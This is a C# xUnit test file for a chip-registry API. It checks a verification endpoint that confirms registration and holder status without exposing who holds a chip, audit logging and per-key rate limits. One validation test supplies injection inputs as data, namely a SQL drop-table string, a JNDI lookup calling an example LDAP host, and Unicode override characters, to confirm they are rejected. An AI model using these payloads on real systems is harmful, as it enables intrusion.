using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using ChipRegistry.Api.Keys;
using ChipRegistry.Domain.Common;
using ChipRegistry.Domain.Organisations;
using ChipRegistry.Testing;

namespace ChipRegistry.Api.Tests.Chips.Reads;

public sealed class VerificationTests(ApiFixture host) : IClassFixture<ApiFixture>
{
    private async Task<JsonDocument> VerifyAsync(string token, string serial, string organisationId)
    {
        var response = await host.SendAsync(HttpMethod.Post, "/api/v1/verifications", token, new { serial, organisationId });
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return JsonDocument.Parse(await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
    }

    [Fact]
    public async Task verification_says_registered_the_model_and_whether_the_named_organisation_holds_it_never_who_does_and_logs_each_answer()
    {
        var run = Guid.NewGuid().ToString("N")[..10];
        var maker = new Actor($"vf-maker-{run}", OrganisationKind.Manufacturer);
        var buyer = new Actor($"vf-buyer-{run}", OrganisationKind.Distributor);
        var asker = await host.OrganisationKeyAsync($"vf-asker-{run}", OrganisationKind.Operator);
        var chipId = await ChipArrange.RegisterOneAsync(host, maker.OrganisationId);
        await host.RegisterOrganisationAsync(buyer.OrganisationId, OrganisationKind.Distributor);
        await ChipArrange.SellAsync(host, chipId, maker, buyer);
        var unknown = ChipArrange.NewSerial();

        using (var owner = await VerifyAsync(asker.Token, chipId, buyer.OrganisationId))
        {
            Assert.True(owner.RootElement.GetProperty("registered").GetBoolean());
            Assert.Equal("nvidia-h100-sxm", owner.RootElement.GetProperty("modelId").GetString());
            Assert.True(owner.RootElement.GetProperty("organisationIsCurrentHolder").GetBoolean());
        }
        using (var custodian = await VerifyAsync(asker.Token, chipId, maker.OrganisationId))
        {
            Assert.True(custodian.RootElement.GetProperty("organisationIsCurrentHolder").GetBoolean());
        }
        using (var wrong = await VerifyAsync(asker.Token, chipId, "vf-someone-else"))
        {
            Assert.True(wrong.RootElement.GetProperty("registered").GetBoolean());
            Assert.False(wrong.RootElement.GetProperty("organisationIsCurrentHolder").GetBoolean());
            var text = wrong.RootElement.GetRawText();
            Assert.DoesNotContain(maker.OrganisationId, text, StringComparison.Ordinal);
            Assert.DoesNotContain(buyer.OrganisationId, text, StringComparison.Ordinal);
            Assert.Equal(["registered", "modelId", "organisationIsCurrentHolder", "registrationVoided"], wrong.RootElement.EnumerateObject().Select(p => p.Name));
        }
        using (var none = await VerifyAsync(asker.Token, unknown, maker.OrganisationId))
        {
            Assert.False(none.RootElement.GetProperty("registered").GetBoolean());
            Assert.Equal(JsonValueKind.Null, none.RootElement.GetProperty("modelId").ValueKind);
            Assert.False(none.RootElement.GetProperty("organisationIsCurrentHolder").GetBoolean());
        }

        using var log = await host.GetJsonAsync(ApiFixture.AdminKey, "/api/v1/admin/chip-reads?limit=200");
        var mine = log.RootElement.GetProperty("entries").EnumerateArray()
            .Where(e => e.GetProperty("keyId").GetString() == asker.KeyId)
            .Select(e => (e.GetProperty("endpoint").GetString(), e.GetProperty("chipId").GetString(), e.GetProperty("organisationId").GetString(),
                e.GetProperty("askedOrganisationId").GetString(), e.GetProperty("registered").GetBoolean(), e.GetProperty("organisationIsCurrentHolder").GetBoolean()))
            .ToList();
        Assert.Equal(
            [
                ("verification", chipId, asker.OrganisationId, buyer.OrganisationId, true, true),
                ("verification", chipId, asker.OrganisationId, maker.OrganisationId, true, true),
                ("verification", chipId, asker.OrganisationId, "vf-someone-else", true, false),
                ("verification", unknown, asker.OrganisationId, maker.OrganisationId, false, false),
            ],
            mine);
    }

    [Theory]
    [InlineData("""{"serial":"","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
    [InlineData("""{"serial":"a/b","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
    [InlineData("""{"serial":"nvidia:1","organisationId":" "}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
    [InlineData("""{"serial":"'; drop table events; --","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
    [InlineData("""{"serial":"nvidia:1\u200b","organisationId":"x"}""", HttpStatusCode.UnprocessableEntity, "invalid_serial")]
    [InlineData("""{"serial":"nvidia:1","organisationId":"${jndi:ldap://x.example/a}"}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
    [InlineData("""{"serial":"nvidia:1","organisationId":"dist\u202e1"}""", HttpStatusCode.UnprocessableEntity, "invalid_organisation")]
    public async Task bad_verification_requests_get_a_problem_and_are_not_logged(string body, HttpStatusCode status, string code)
    {
        var key = await host.OrganisationKeyAsync($"vf-bad-{Guid.NewGuid():N}", OrganisationKind.Distributor);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/verifications") { Content = new StringContent(body, System.Text.Encoding.UTF8, "application/json") };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key.Token);

        var response = await host.Client.SendAsync(request, TestContext.Current.CancellationToken);

        Assert.Equal(status, response.StatusCode);
        Assert.Equal(code, await ApiFixture.ProblemCodeAsync(response));
        using var log = await host.GetJsonAsync(ApiFixture.AdminKey, "/api/v1/admin/chip-reads?limit=200");
        Assert.DoesNotContain(log.RootElement.GetProperty("entries").EnumerateArray(), e => e.GetProperty("keyId").GetString() == key.KeyId);
    }
}

public sealed class VerificationRateLimitTests
{
    [Fact]
    public async Task a_key_past_its_verification_budget_gets_429_with_retry_after_while_its_other_requests_and_other_keys_go_on()
    {
        var cancellationToken = TestContext.Current.CancellationToken;
        await using var database = await TestDatabase.CreateAsync(cancellationToken);
        await using var api = await ApiHosts.StartAsync(new Dictionary<string, string>
        {
            ["ConnectionStrings:Registry"] = database.ConnectionString,
            [BootstrapAdminKey.Variable] = ApiFixture.AdminKey,
            ["Registry:RateLimit:Verification:PermitsPerMinute"] = "1",
            ["Registry:RateLimit:Verification:Burst"] = "2",
        });
        using var client = api.Server.CreateClient();
        await Readiness.WaitUntilReadyAsync(client);
        var limited = await IssueAsync(client, "vf-limited");
        var other = await IssueAsync(client, "vf-other");

        var statuses = new List<HttpStatusCode>();
        HttpResponseMessage? last = null;
        for (var i = 0; i < 3; i++)
        {
            last = await SendAsync(client, HttpMethod.Post, "/api/v1/verifications", limited.Token, new { serial = $"nvidia:rl{i}", organisationId = "anyone" });
            statuses.Add(last.StatusCode);
        }

        Assert.Equal([HttpStatusCode.OK, HttpStatusCode.OK, HttpStatusCode.TooManyRequests], statuses);
        Assert.True(int.Parse(last!.Headers.GetValues("Retry-After").Single(), System.Globalization.CultureInfo.InvariantCulture) >= 1);
        Assert.Equal("rate_limited", await ApiFixture.ProblemCodeAsync(last));
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(client, HttpMethod.Get, "/api/v1/chips", limited.Token)).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await SendAsync(client, HttpMethod.Post, "/api/v1/verifications", other.Token, new { serial = "nvidia:rl9", organisationId = "anyone" })).StatusCode);

        var log = await SendAsync(client, HttpMethod.Get, "/api/v1/admin/chip-reads", ApiFixture.AdminKey);
        using var entries = JsonDocument.Parse(await log.Content.ReadAsStringAsync(cancellationToken));
        Assert.Equal(["nvidia:rl0", "nvidia:rl1"], entries.RootElement.GetProperty("entries").EnumerateArray()
            .Where(e => e.GetProperty("keyId").GetString() == limited.KeyId).Select(e => e.GetProperty("chipId").GetString()));
    }

    private static async Task<IssuedKeyResponse> IssueAsync(HttpClient client, string organisationId)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (true)
        {
            // The bootstrap key is stored in the background after the migrations; keys go only to registered organisations.
            var registered = await SendAsync(client, HttpMethod.Post, "/api/v1/organisations", ApiFixture.AdminKey,
                new { organisationId, name = organisationId, kind = "operator", country = "US", foundedOn = "2020-01-01" });
            var response = registered.StatusCode is HttpStatusCode.Created or HttpStatusCode.Conflict
                ? await SendAsync(client, HttpMethod.Post, "/api/v1/admin/keys", ApiFixture.AdminKey, new IssueKeyRequest(organisationId, "operator", "test"))
                : registered;
            if (response.StatusCode == HttpStatusCode.Created)
            {
                return (await response.Content.ReadFromJsonAsync<IssuedKeyResponse>(TestContext.Current.CancellationToken))!;
            }
            Assert.True(DateTime.UtcNow < deadline, $"no key issued: {(int)response.StatusCode}");
            await Task.Delay(50, TestContext.Current.CancellationToken);
        }
    }

    private static async Task<HttpResponseMessage> SendAsync(HttpClient client, HttpMethod method, string path, string key, object? body = null)
    {
        using var request = new HttpRequestMessage(method, path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key);
        if (body is not null)
        {
            request.Content = JsonContent.Create(body, body.GetType(), options: ApiFixture.Json);
        }
        return await client.SendAsync(request, TestContext.Current.CancellationToken);
    }
}
